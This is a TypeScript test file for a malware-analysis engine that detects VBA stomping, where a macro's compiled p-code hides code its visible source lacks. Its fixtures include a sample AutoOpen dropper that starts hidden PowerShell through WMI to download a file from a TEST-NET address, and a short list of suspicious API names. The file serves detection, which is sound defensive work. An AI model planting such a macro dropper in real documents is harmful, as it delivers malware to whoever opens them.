import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Finding } from '../../core/index.js';
import { buildDocm } from '../../formats/ooxml/index.js';
import { buildVbaProjectBin, vbaModuleSource } from '../../formats/ovba/index.js';
import { buildPcodeProject, type PcodeProjectSpec } from '../../../test/builders/pcode.js';
import { makeContext } from '../../../test/support/engine-context.js';
import { vbaEngine } from './index.js';

// Inert: TEST-NET addresses; the commands are text that is never run.
const DROPPER = [
  'Sub AutoOpen()',
  '    Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
  '    w.Create "powershell -nop -w hidden -c iwr http://192.0.2.10/a.bin", Null, Null, pid',
  'End Sub',
].join('\n');
const BENIGN = ['Sub AutoOpen()', '    MsgBox "Document ready", vbOKOnly, "Info"', 'End Sub'].join(
  '\n',
);

const analyze = async (spec: PcodeProjectSpec) => {
  const out = await vbaEngine.analyze(makeContext(buildPcodeProject(spec).bytes));
  return { out, stomped: out.findings?.find((f) => f.id === 'vba.stomped') };
};
const texts = (f: Finding | undefined) => f?.evidence.map((e) => e.text ?? '') ?? [];

describe('vba stomping: p-code that matches its source is never reported', () => {
  test('a dropper whose p-code and source agree → its findings, no vba.stomped', async () => {
    const { out, stomped } = await analyze({ modules: [{ name: 'Module1', source: DROPPER }] });
    assert.equal(stomped, undefined);
    assert.ok(out.findings?.some((f) => f.id === 'vba.autoexec-execution-chain'));
  });

  test('literals with doubled quotes, comments and several modules → no vba.stomped', async () => {
    const { stomped } = await analyze({
      root: 'Macros',
      modules: [
        {
          name: 'ThisDocument',
          isDocument: true,
          source: 'Private Sub Document_Open()\n  Run\nEnd Sub',
        },
        {
          name: 'Module1',
          source: [
            'Sub Run()',
            "  ' Shows a greeting: see http://www.example.com/help for details",
            '  MsgBox "Say ""hello"" to the team", vbInformation, "Greeting box"',
            '',
            '  Shell "notepad.exe C:\\notes\\readme.txt", vbNormalFocus',
            'End Sub',
          ].join('\n'),
        },
      ],
    });
    assert.equal(stomped, undefined);
  });

  test('Japanese (cp932) literals that match their source → no vba.stomped', async () => {
    const body = 'Sub AutoOpen()\n  MsgBox "請求書をご確認ください", vbOKOnly, "経理部"\nEnd Sub';
    const { stomped } = await analyze({
      codePage: 932,
      modules: [{ name: 'Module1', source: body }],
    });
    assert.equal(stomped, undefined);
  });

  test('stale suspicious identifiers alone (renamed or deleted code) → no vba.stomped', async () => {
    const { stomped } = await analyze({
      modules: [{ name: 'Module1', source: BENIGN }],
      staleIdentifiers: ['Shell', 'URLDownloadToFileA', 'Document_Open'],
    });
    assert.equal(stomped, undefined);
  });

  test('version 0xFFFF (no performance cache, our own writer) → nothing compiled to compare', async () => {
    const { stomped } = await analyze({
      version: 0xffff,
      modules: [{ name: 'Module1', source: '', compiledFrom: DROPPER }],
    });
    assert.equal(stomped, undefined);
  });

  test('a project written by buildVbaProjectBin (source only) → no vba.stomped', async () => {
    const bin = buildVbaProjectBin({
      modules: [{ name: 'Module1', code: vbaModuleSource('Module1', DROPPER) }],
    });
    const out = await vbaEngine.analyze(makeContext(bin));
    assert.ok(!out.findings?.some((f) => f.id === 'vba.stomped'));
  });
});

describe('vba stomping: p-code that the source lacks', () => {
  test('benign source over dropper p-code (OLE .doc) → vba.stomped with the hidden command', async () => {
    const { out, stomped } = await analyze({
      root: 'Macros',
      modules: [{ name: 'NewMacros', source: BENIGN, compiledFrom: DROPPER }],
    });
    assert.equal(stomped?.severity, 'high');
    assert.deepEqual(stomped.attack, ['T1564.007', 'T1027']);
    assert.ok(texts(stomped).some((t) => t.includes('powershell -nop -w hidden')));
    assert.equal(stomped.evidence[0]?.location, 'Macros/VBA/NewMacros');
    assert.ok(texts(stomped).some((t) => /GetObject|winmgmts/.test(t)));
    // The URL only the p-code carries reaches the IOCs.
    assert.deepEqual(out.extracted?.iocs?.urls, ['http://192.0.2.10/a.bin']);
  });

  test('stomped vbaProject.bin inside a .docm (OOXML) → vba.stomped', async () => {
    const bin = buildPcodeProject({
      modules: [{ name: 'NewMacros', source: BENIGN, compiledFrom: DROPPER }],
    }).bytes;
    const out = await vbaEngine.analyze(makeContext(buildDocm({ vbaProjectBin: bin })));
    const stomped = out.findings?.find((f) => f.id === 'vba.stomped');
    assert.equal(stomped?.evidence[0]?.location, 'VBA/NewMacros');
  });

  test('Japanese (cp932) project with a stomped command → the hidden literal decoded', async () => {
    const hidden =
      'Sub AutoOpen()\n  Shell "cmd /c echo 請求書 > C:\\Users\\Public\\a.txt"\nEnd Sub';
    const fake = 'Sub AutoOpen()\n  MsgBox "請求書をご確認ください"\nEnd Sub';
    const { stomped } = await analyze({
      codePage: 932,
      modules: [{ name: 'Module1', source: fake, compiledFrom: hidden }],
    });
    assert.ok(texts(stomped).includes('cmd /c echo 請求書 > C:\\Users\\Public\\a.txt'));
  });

  test('empty source over p-code without suspicious strings → vba.stomped by line count', async () => {
    const { stomped } = await analyze({
      modules: [
        { name: 'Module1', source: '', compiledFrom: 'Sub Tally()\n  a = 1\n  b = a + 2\nEnd Sub' },
      ],
    });
    assert.match(texts(stomped)[0] ?? '', /4 compiled line\(s\), 2 source line\(s\)/);
  });

  test('fake source with other benign strings (EvilClippy-style) → vba.stomped by strings', async () => {
    const hidden = [
      'Sub AutoOpen()',
      '  x = "Invoice number"',
      '  y = "Please enable content"',
      '  z = "Accounts payable"',
      '  Set o = CreateObject("Scripting.Dictionary")',
      'End Sub',
    ].join('\n');
    const fake = [
      'Sub AutoOpen()',
      '  x = "Quarterly report"',
      '  y = "Thank you for reading"',
      '  z = "Finance team"',
      '  q = 1',
      '  r = 2',
      'End Sub',
    ].join('\n');
    const { stomped } = await analyze({
      modules: [{ name: 'Module1', source: fake, compiledFrom: hidden }],
    });
    assert.ok(texts(stomped).includes('Please enable content'));
  });
});

describe('vba stomping: hostile compiled data', () => {
  test('truncated _VBA_PROJECT and a broken line directory → no exception, no finding', async () => {
    const built = buildPcodeProject({ modules: [{ name: 'Module1', source: BENIGN }] }).bytes;
    // Flip bytes of the whole file body one region at a time: the engine must always answer.
    for (let at = 512; at < built.length; at += 97) {
      const bytes = built.slice();
      bytes.fill(0xff, at, Math.min(at + 24, bytes.length));
      const out = await vbaEngine.analyze(makeContext(bytes));
      assert.ok(Array.isArray(out.findings));
    }
  });
});
